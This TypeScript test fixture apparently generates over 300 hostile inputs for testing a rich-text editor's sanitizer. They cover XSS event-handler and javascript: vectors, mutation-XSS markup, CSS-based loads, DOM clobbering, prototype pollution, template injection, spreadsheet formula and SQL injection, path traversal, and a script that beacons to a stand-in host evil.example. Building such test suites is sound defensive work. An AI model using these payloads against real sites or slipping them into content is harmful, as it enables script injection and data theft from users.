import { hostileAddresses } from './hostile-addresses.ts';
import { hostileHtml } from './hostile-html.ts';

const RUN = '__pwned=1';
const FAR = 'https://evil.example';

/** Handlers the browser calls by itself, or as soon as somebody touches what carries them. */
const handlers: readonly string[] = [
  ...['abort', 'afterprint', 'animationend', 'animationstart', 'auxclick', 'beforecopy', 'beforeinput'],
  ...['beforematch', 'beforepaste', 'beforeprint', 'beforetoggle', 'beforeunload', 'begin', 'blur', 'bounce'],
  ...['cancel', 'canplay', 'change', 'click', 'close', 'contentvisibilityautostatechange', 'contextmenu', 'copy'],
  ...[
    'cuechange',
    'cut',
    'dblclick',
    'drag',
    'dragend',
    'dragenter',
    'dragover',
    'dragstart',
    'drop',
    'durationchange',
  ],
  ...['ended', 'error', 'finish', 'focus', 'focusin', 'focusout', 'formdata', 'fullscreenchange', 'gotpointercapture'],
  ...['hashchange', 'input', 'invalid', 'keydown', 'keypress', 'keyup', 'load', 'loadeddata', 'loadedmetadata'],
  ...['loadstart', 'message', 'mousedown', 'mouseenter', 'mousemove', 'mouseout', 'mouseover', 'mousewheel'],
  ...['pagehide', 'pageshow', 'paste', 'play', 'playing', 'pointerdown', 'pointerenter', 'pointerover'],
  ...['pointerrawupdate', 'popstate', 'progress', 'readystatechange', 'repeat', 'reset', 'resize', 'scroll'],
  ...['scrollend', 'search', 'securitypolicyviolation', 'select', 'selectionchange', 'selectstart', 'show', 'start'],
  ...[
    'submit',
    'toggle',
    'touchstart',
    'transitionend',
    'transitionrun',
    'unhandledrejection',
    'unload',
    'volumechange',
  ],
  ...['webkitanimationstart', 'webkittransitionend', 'wheel', 'zoom'],
];

/** What a handler is written on, in the ways that attributes may be written. */
const carriers: readonly ((handler: string) => string)[] = [
  (on) => `<img src=x ${on}="${RUN}">`,
  (on) => `<svg ${on}='${RUN}'><text>in a drawing</text></svg>`,
  (on) => `<p ${on}=${RUN} style="animation: spin 1s" tabindex=1 autofocus>words</p>`,
  (on) => `<body ${on.toUpperCase()}="${RUN}">`,
  (on) => `<video autoplay ${on}="${RUN}"><source src=x></video>`,
  (on) => `<details open/${on}="${RUN}"><summary>more</summary></details>`,
  (on) => `<a href="https://example.org/"\n${on}\n=\n"${RUN}">link</a>`,
  (on) => `<math><mi ${on}="${RUN}">m</mi></math>`,
  (on) => `<custom-part x="a"${on}="${RUN}">custom</custom-part>`,
  (on) => `<table ${on}="${RUN}"><tr ${on}="${RUN}"><td ${on}="${RUN}">cell</td></tr></table>`,
  (on) => `<div title="&quot;><img src=x ${on}=${RUN}>">title</div>`,
];

/** Where an address may stand that is loaded or followed. */
const places: readonly ((address: string) => string)[] = [
  (to) => `<a href="${to}">press</a>`,
  (to) => `<a href='https://example.org/' ping='${to}'>ping</a>`,
  (to) => `<area href="${to}" alt=area>`,
  (to) => `<iframe src="${to}"></iframe>`,
  (to) => `<frameset><frame src="${to}"></frameset>`,
  (to) => `<embed src="${to}">`,
  (to) => `<object data="${to}"><param name=movie value="${to}"></object>`,
  (to) => `<applet codebase="${to}" code=x></applet>`,
  (to) => `<script src="${to}"></script>`,
  (to) => `<script type=module>import "${to}"</script>`,
  (to) => `<link rel=stylesheet href="${to}">`,
  (to) => `<link rel=preload as=image href="${to}"><link rel=icon href="${to}">`,
  (to) => `<link rel=prerender href="${to}"><link rel=preconnect href="${to}"><link rel=manifest href="${to}">`,
  (to) => `<img src="${to}" alt=pixel>`,
  (to) => `<img src=x srcset="${to} 1x" longdesc="${to}" lowsrc="${to}" dynsrc="${to}">`,
  (to) => `<picture><source srcset="${to}"><img alt=p></picture>`,
  (to) => `<input type=image src="${to}" formaction="${to}">`,
  (to) => `<form action="${to}"><input name=q autofocus><button>send</button></form>`,
  (to) => `<button formaction="${to}" form=x>send</button>`,
  (to) => `<video src="${to}" poster="${to}" autoplay><track src="${to}" default></video>`,
  (to) => `<audio src="${to}" autoplay></audio>`,
  (to) => `<body background="${to}">`,
  (to) => `<table background="${to}"><td background="${to}">cell</td></table>`,
  (to) => `<svg><image href="${to}"/><image xlink:href="${to}"/></svg>`,
  (to) => `<svg><use href="${to}#x"/><feImage href="${to}"/></svg>`,
  (to) => `<svg><a xlink:href="${to}"><text y=9>press</text></a></svg>`,
  (to) => `<svg><script href="${to}"></script></svg>`,
  (to) => `<svg><a><animate attributeName=href values="${to}" begin=0s /><text>press</text></a></svg>`,
  (to) => `<svg><a><set attributeName=xlink:href to="${to}" /><text>press</text></a></svg>`,
  (to) => `<math><maction actiontype="statusline#${to}" xlink:href="${to}">press</maction></math>`,
  (to) => `<base href="${to}"><a href="x">relative</a>`,
  (to) => `<meta http-equiv=refresh content="0;url=${to}">`,
  (to) => `<blockquote cite="${to}">quoted</blockquote><q cite="${to}">q</q><del cite="${to}">gone</del>`,
  (to) => `<html manifest="${to}"><head profile="${to}">`,
  (to) => `<portal src="${to}"></portal><fencedframe src="${to}"></fencedframe><webview src="${to}"></webview>`,
  (to) => `<div data-background-iframe="${to}" data-src="${to}" data-href="${to}" itemid="${to}">data</div>`,
  (to) => `<isindex action="${to}" type=image src="${to}">`,
  (to) => `<bgsound src="${to}"><layer src="${to}"></layer><xml src="${to}"></xml>`,
  (to) => `<template shadowrootmode=open><img src="${to}"></template>`,
  (to) =>
    `<figure data-post='{"platform":"x","permalink":"${to}"}' data-said='{"caption":"${to}","altText":""}'>forged</figure>`,
];

/** What a style may load or do. */
const styles: readonly string[] = [
  `background:url(${FAR}/c.png)`,
  `background:u\\72l('${FAR}/c.png')`,
  `background-image:image-set('${FAR}/c.png' 1x)`,
  `background-image:-webkit-cross-fade(url(${FAR}/a), url(${FAR}/b), 50%)`,
  `list-style:url(${FAR}/c.png)`,
  `cursor:url(${FAR}/c.cur),auto`,
  `content:url(${FAR}/c.png)`,
  `mask:url(${FAR}/m.svg#x)`,
  `filter:url(${FAR}/f.svg#x)`,
  `behavior:url(${FAR}/x.htc)`,
  `-moz-binding:url(${FAR}/x.xml#y)`,
  `width:expression(${RUN})`,
  `xss:expr/*x*/ession(${RUN})`,
  `background:url("javascript:${RUN}")`,
  `--x:url(${FAR}/v.png);background:var(--x)`,
  'position:fixed;inset:0;z-index:9999;opacity:0',
];

/** Markup that one parser reads as harmless and the next one does not. */
const mutations: readonly string[] = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
  `<svg><style>&lt;img src=x onerror=${RUN}&gt;</style></svg>`,
  `<svg><desc><p title="</desc></svg><img src=x onerror=${RUN}>">`,
  `<svg><title><style><img src="</style><img src=x onerror=${RUN}//"></title></svg>`,
  `<svg></br><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<noscript><style></noscript><img src=x onerror=${RUN}></style>`,
  `<noembed><p title="</noembed><img src=x onerror=${RUN}>">`,
  `<noframes><p title="</noframes><img src=x onerror=${RUN}>">`,
  `<iframe><p title="</iframe><img src=x onerror=${RUN}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${RUN}>">`,
  `<title><p title="</title><img src=x onerror=${RUN}>">`,
  `<script><!--<script></script><img src=x onerror=${RUN}>--></script>`,
  `<style><style/><img src=x onerror=${RUN}>`,
  `<select><style><img src=x onerror=${RUN}></style></select>`,
  `<select><template><option><img src=x onerror=${RUN}></template></select>`,
  `<table><caption><svg><desc><table><caption></caption><img src=x onerror=${RUN}>`,
  `<form><div></form><form><img src=x onerror=${RUN}>`,
  `<a href="x"><table><a href="javascript:${RUN}">adopted</a></table>`,
  `<b><p><i></b><img src=x onerror=${RUN}></i></p>`,
  `<svg><![CDATA[><img src=x onerror=${RUN}>]]></svg>`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<!--!><img src=x onerror=${RUN}>-->`,
  `<comment><img src="</comment><img src=x onerror=${RUN}//">`,
  `<? foo="><img src=x onerror=${RUN}>">`,
  `<! foo="><img src=x onerror=${RUN}>">`,
  `</ foo="><img src=x onerror=${RUN}>">`,
  `<% foo="><img src=x onerror=${RUN}>">`,
  `<img """><script>${RUN}</script>">`,
  `<img src=x\u000conerror\u000c=\u000c${RUN}>`,
  `<\u0000img src=x onerror=${RUN}>`,
  `<im\u0000g src=x onerror=${RUN}>`,
  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `<image src=x onerror=${RUN}>`,
  `<p>unclosed <b <i><img src=x onerror=${RUN}`,
];

/** Names and shapes that mean something to our own page, its libraries or the language. */
const shapes: readonly string[] = [
  '<form id=body><input name=firstChild><input name=removeChild><input name=ownerDocument></form>',
  '<img name=getElementById><img name=createElement><a id=casebook></a><a id=casebook name=request></a>',
  '<a id=defaultView href="https://example.org/">named</a><iframe name=__seen></iframe>',
  '<p id=root class="ProseMirror case-section" role=main contenteditable=true>a false page</p>',
  '<p data-pm-slice="1 1 -2 []" data-node-type=section data-kind=evidence>slice</p>',
  '<p data-pm-slice="99 99 [&quot;doc&quot;,null]">too deep a slice</p>',
  '<p data-pm-slice="not numbers">no slice</p>',
  '<section data-kind="__proto__" data-title="constructor">forged</section>',
  '<div data-type="taskList"><li data-checked="x">task</li></div>',
  `<figure data-annotations='[{"kind":"text","text":"<img src=x onerror=${RUN}>"}]' data-attachment="x">f</figure>`,
  '<figure data-post=\'{"__proto__":{"polluted":1},"platform":"__proto__"}\'>polluted</figure>',
  '<ol start="99999999999999999999" type="javascript:x"><li>numbered</li></ol>',
  '<td colspan="1000000000" rowspan="-1">spanned</td>',
  '<table><tr><td colspan=9999 rowspan=9999>wide</td></tr></table>',
  '<table><tr><td colspan=0 rowspan=0>none</td></tr></table>',
  `<table>${'<tr><td colspan=1000 rowspan=1000>far</td></tr>'.repeat(12)}</table>`,
  `{"__proto__":{"polluted":"${RUN}"},"constructor":{"prototype":{"polluted":1}}}`,
  `__proto__[polluted]=${RUN}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `#{${RUN}} *{${RUN}} @{${RUN}} [[${RUN}]] \${${RUN}}`,
  `';${RUN};'`,
  `"-${RUN}-"`,
  `\\';${RUN}//`,
  `</textarea></title></style></script><img src=x onerror=${RUN}>`,
  `"><img src=x onerror=${RUN}>`,
  `' autofocus onfocus='${RUN}`,
  '" onmouseover="__pwned=1" x="',
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+__pwned=1//'>",
  '$\\url{javascript:__pwned=1}$ $\\htmlData{onclick=__pwned=1}{x}$ $\\htmlStyle{background:url(//evil.example)}{x}$',
  `[md](javascript:${RUN}) ![md](${FAR}/md.png) <javascript:${RUN}>`,
  'if (access != "user\u202e \u2066// checked\u2069 \u2066") {',
  '\u202e>tpircs/<1=denwp__>tpircs<',
  '=HYPERLINK("https://evil.example/","press")',
  "=cmd|' /C calc'!A1",
  "'; DROP TABLE cases; --",
  '" OR title MATCH "*',
  'NEAR(a b, 5) AND {title} : "x" *',
  '../../../../etc/passwd\0.png',
  'CON.txt::$DATA',
];

/**
 * More than 300 pieces of hostile markup and text, each by itself. Every handler, every place of an address, every
 * disguise of one and every trick stands in at least one of them; to be pasted, typed, dropped, stored, found and printed.
 */
export const hostileVectors: readonly string[] = [
  ...new Set([
    ...hostileHtml,
    ...handlers.map((handler, i) => pick(carriers, i)(`on${handler}`)),
    ...places.map((place) => place(`javascript:${RUN}`)),
    ...places.map((place, i) => place(`${FAR}/${i}`)),
    ...hostileAddresses.map((address, i) => (i % 2 ? places[0] : pick(places, i))?.(address) ?? ''),
    ...styles.flatMap((style) => [`<p style="${style}">styled</p>`, `<style>*{${style}}</style>`]),
    `<style>@import url(${FAR}/i.css);@font-face{font-family:x;src:url(${FAR}/f)}input[value^=a]{background:url(${FAR}/a)}</style>`,
    ...['alert(1)', 'confirm(1)', 'prompt(1)', 'print()', `open("${FAR}")`, `fetch("${FAR}")`].map(
      (call, i) => `<${pick(['svg', 'body', 'iframe'], i)} onload='${call};${RUN}'></iframe>`,
    ),
    `<script>location="${FAR}";navigator.sendBeacon("${FAR}");new WebSocket("wss://evil.example");${RUN}</script>`,
    ...mutations,
    ...shapes,
  ]),
];

/** All of them; one in four where it only has to be seen that another layer is not needed, except in the long run. */
export const sampledVectors: readonly string[] = hostileVectors.filter(
  (_, n) => process.env.CASEBOOK_LONG === '1' || n % 4 === 0,
);

function pick<Value>(from: readonly [Value, ...Value[]] | readonly Value[], n: number): Value {
  return from[n % from.length] as Value;
}
